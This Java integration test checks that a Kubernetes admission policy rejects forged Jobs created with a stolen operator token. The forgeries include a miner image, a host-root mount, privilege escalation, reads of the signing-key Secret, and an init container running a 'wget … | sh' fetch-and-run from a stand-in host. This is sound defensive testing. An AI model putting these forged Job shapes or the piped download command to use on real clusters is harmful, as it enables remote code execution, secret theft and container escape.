package io.migrationgate.localcluster;

import static io.migrationgate.localcluster.PolicyPlane.as;
import static io.migrationgate.localcluster.PolicyPlane.require;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVarBuilder;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The operator may create Jobs wherever it watches, so a stolen operator token
 * could run any workload with any Secret. The chart's runner-Job policy lets the operator's
 * ServiceAccount create only Jobs shaped as JobFactory builds them. Each forgery here changes one
 * thing of a Job JobFactory built ({@link JobSamples}); HelmInstallIT shows the real operator's
 * Jobs pass.
 */
@ExtendWith(SharedClusters.class)
class OperatorJobForgeryIT {

  /** Where a target's Jobs run, the only namespace the chart's defaults let the operator create Jobs in. */
  static final String NS = PolicyPlane.RELEASE_NS;
  static final String ELSEWHERE = "job-forgery";
  static PolicyPlane policies;

  @BeforeAll
  static void theOperatorMayCreateJobs(PolicyPlane shared) {
    policies = shared;
    for (String namespace : List.of(NS, ELSEWHERE)) {
      policies.createNamespace(namespace, "dev");
      policies.grant(namespace, PolicyPlane.OPERATOR, "batch", List.of("jobs"), List.of("create"));
    }
    PolicyPlane.awaitPolicy(() -> createAsOperator(forged(j -> runner(j).setImage("busybox"))),
        "runs one container, runner");
  }

  /** {@code sample} in this test's namespace, with {@code change} made. */
  static Job forged(Job sample, Consumer<Job> change) {
    sample.getMetadata().setNamespace(NS);
    change.accept(sample);
    return sample;
  }

  /** The run Job of a ConfigMap source with {@code change} made. */
  static Job forged(Consumer<Job> change) {
    return forged(JobSamples.runFromConfigMap(), change);
  }

  static Container runner(Job job) {
    return job.getSpec().getTemplate().getSpec().getContainers().get(0);
  }

  static Container copyScripts(Job job) {
    return job.getSpec().getTemplate().getSpec().getInitContainers().get(0);
  }

  static PodSpec pod(Job job) {
    return job.getSpec().getTemplate().getSpec();
  }

  static Kubectl.Result createAsOperator(Job job) {
    return policies.admin.runWithInput(Serialization.asYaml(job),
        as(PolicyPlane.OPERATOR, List.of(), "create", "--dry-run=server", "-f", "-"));
  }

  @Test
  void jobsShapedAsJobFactoryBuildsThemAreCreated() {
    require(createAsOperator(forged(job -> { })));
    require(createAsOperator(forged(JobSamples.runFromImage(), job -> { })));
    require(createAsOperator(forged(JobSamples.plan(), job -> { })));
    require(createAsOperator(forged(JobSamples.planFromImage(), job -> { })));
  }

  @Test
  void aStolenOperatorTokenCannotCreateAnyOtherJob() {
    String shape = "runs one container, runner, with the image " + JobSamples.runnerImage();
    String privileges = "allowPrivilegeEscalation: false, drops ALL capabilities";
    String mounts = "automountServiceAccountToken: false";
    Map<String, Job> forgeries = new LinkedHashMap<>();
    Map<String, String> expected = new LinkedHashMap<>();
    forgeries.put("another image", forged(j -> runner(j).setImage("registry.example/miner:latest")));
    expected.put("another image", shape);
    forgeries.put("a second container", forged(j -> pod(j).getContainers().add(
        new ContainerBuilder(runner(j)).withName("sidecar").build())));
    expected.put("a second container", shape);
    forgeries.put("another command", forged(j -> runner(j).setCommand(List.of("java", "/workspace/scripts/Evil.java"))));
    expected.put("another command", shape);
    forgeries.put("JAVA_TOOL_OPTIONS", forged(j -> runner(j).getEnv().add(new EnvVarBuilder()
        .withName("JAVA_TOOL_OPTIONS").withValue("-javaagent:/workspace/scripts/agent.jar").build())));
    expected.put("JAVA_TOOL_OPTIONS", "only MG_* environment variables");
    forgeries.put("privileged", forged(j -> {
      // the API server itself refuses privileged with allowPrivilegeEscalation: false
      runner(j).getSecurityContext().setPrivileged(true);
      runner(j).getSecurityContext().setAllowPrivilegeEscalation(null);
    }));
    expected.put("privileged", privileges);
    forgeries.put("privilege escalation", forged(j -> runner(j).getSecurityContext().setAllowPrivilegeEscalation(true)));
    expected.put("privilege escalation", privileges);
    forgeries.put("capabilities kept", forged(j -> runner(j).getSecurityContext().getCapabilities().setDrop(List.of())));
    expected.put("capabilities kept", privileges);
    forgeries.put("a capability added", forged(j -> runner(j).getSecurityContext().getCapabilities()
        .setAdd(List.of("NET_RAW"))));
    expected.put("a capability added", privileges);
    forgeries.put("root", forged(j -> {
      pod(j).getSecurityContext().setRunAsNonRoot(false);
      runner(j).getSecurityContext().setRunAsNonRoot(null);
    }));
    expected.put("root", "runs as non-root with the RuntimeDefault seccomp profile");
    forgeries.put("unconfined seccomp", forged(j -> {
      pod(j).getSecurityContext().getSeccompProfile().setType("Unconfined");
      runner(j).getSecurityContext().setSeccompProfile(null);
    }));
    expected.put("unconfined seccomp", "RuntimeDefault seccomp profile");
    forgeries.put("hostPath", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("host")
        .withNewHostPath().withPath("/").endHostPath().build())));
    expected.put("hostPath", "no hostPath");
    forgeries.put("token mounted", forged(j -> pod(j).setAutomountServiceAccountToken(true)));
    expected.put("token mounted", mounts);
    forgeries.put("token projected", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("token")
        .withNewProjected().addNewSource().withNewServiceAccountToken().withPath("token").endServiceAccountToken()
        .endSource().endProjected().build())));
    expected.put("token projected", mounts);
    forgeries.put("Secret volume", forged(j -> pod(j).getVolumes().add(new VolumeBuilder().withName("keys")
        .withNewSecret().withSecretName("payments-db").endSecret().build())));
    expected.put("Secret volume", "only configMap and emptyDir volumes");
    forgeries.put("host network", forged(j -> pod(j).setHostNetwork(true)));
    expected.put("host network", "no host network, PID or IPC");
    forgeries.put("host PID", forged(j -> pod(j).setHostPID(true)));
    expected.put("host PID", "no host network, PID or IPC");
    // in the release namespace a Job labelled with its request needs no owner reference: these carry neither
    forgeries.put("no owner", forged(j -> {
      j.getMetadata().setOwnerReferences(List.of());
      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
    }));
    expected.put("no owner", "MigrationRequest as its controller ownerReference");
    forgeries.put("owned, not controlled", forged(j -> {
      j.getMetadata().getOwnerReferences().get(0).setController(false);
      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
    }));
    expected.put("owned, not controlled", "MigrationRequest as its controller ownerReference");
    forgeries.put("another owner kind", forged(j -> {
      j.getMetadata().getOwnerReferences().get(0).setKind("CronJob");
      j.getMetadata().getLabels().remove("migrationgate.io/request-namespace");
    }));
    expected.put("another owner kind", "MigrationRequest as its controller ownerReference");
    forgeries.put("init image by tag", forged(JobSamples.runFromImage(),
        j -> copyScripts(j).setImage("registry.example/orders-migrations:latest")));
    expected.put("init image by tag", "at most one init container, copy-scripts: an image pinned by digest");
    forgeries.put("init with credentials", forged(JobSamples.runFromImage(),
        j -> copyScripts(j).setEnv(new ArrayList<>(runner(j).getEnv()))));
    expected.put("init with credentials", "with no environment");
    forgeries.put("init running a shell", forged(JobSamples.runFromImage(),
        j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
    expected.put("init running a shell", "running cp");
    forgeries.put("a plan opening the image", forged(JobSamples.planFromImage(),
        j -> {
          pod(j).setInitContainers(pod(JobSamples.runFromImage()).getInitContainers());
          pod(j).getVolumes().add(pod(JobSamples.runFromImage()).getVolumes().get(0));
        }));
    expected.put("a plan opening the image", "a plan Job (the runner's plan program) has no init container");

    String credentials = "reads only a database's credentials from a Secret";
    forgeries.put("the record signing key", forged(j -> runner(j).getEnv().stream()
        .filter(e -> e.getValueFrom() != null && e.getValueFrom().getSecretKeyRef() != null).findFirst().orElseThrow()
        .getValueFrom().getSecretKeyRef().setName(ChartRelease.RELEASE + "-migration-gate-record-signing-key")));
    expected.put("the record signing key", credentials);
    forgeries.put("helm's release Secret", forged(j -> runner(j).getEnv().stream()
        .filter(e -> e.getValueFrom() != null && e.getValueFrom().getSecretKeyRef() != null).findFirst().orElseThrow()
        .getValueFrom().getSecretKeyRef().setName("sh.helm.release.v1." + ChartRelease.RELEASE + ".v1")));
    expected.put("helm's release Secret", credentials);
    forgeries.put("a ConfigMap read into the environment", forged(j -> runner(j).getEnv().add(new EnvVarBuilder()
        .withName("MG_PLACEHOLDERS").withNewValueFrom().withNewConfigMapKeyRef().withName("payments-config")
        .withKey("x").endConfigMapKeyRef().endValueFrom().build())));
    expected.put("a ConfigMap read into the environment", credentials);
    forgeries.put("another ConfigMap mounted", forged(j -> pod(j).getVolumes().stream()
        .filter(v -> v.getConfigMap() != null).findFirst().orElseThrow().getConfigMap().setName("kube-root-ca.crt")));
    expected.put("another ConfigMap mounted", "mounts only its scripts' snapshot ConfigMap");

    forgeries.put("another namespace", forged(j -> j.getMetadata().setNamespace(ELSEWHERE)));
    expected.put("another namespace", "creates Jobs only in " + NS);
    forgeries.put("another argument", forged(j -> runner(j).getArgs().add("--spring.config.location=/workspace/scripts/")));
    expected.put("another argument", "arguments are the runner's own options");

    List<String> accepted = new ArrayList<>();
    forgeries.forEach((name, job) -> {
      Kubectl.Result result = createAsOperator(job);
      if (result.ok()) {
        accepted.add(name);
      } else {
        assertThat(result.err()).as(name).contains(expected.get(name));
      }
    });
    assertThat(accepted).as("forged Jobs the operator's ServiceAccount could create").isEmpty();
  }

  @Test
  void otherSubjectsAreNotRestrictedByThisPolicy() {
    require(policies.admin.runWithInput(Serialization.asYaml(forged(j -> runner(j).setImage("busybox"))),
        "create", "--dry-run=server", "-f", "-"));
  }
}
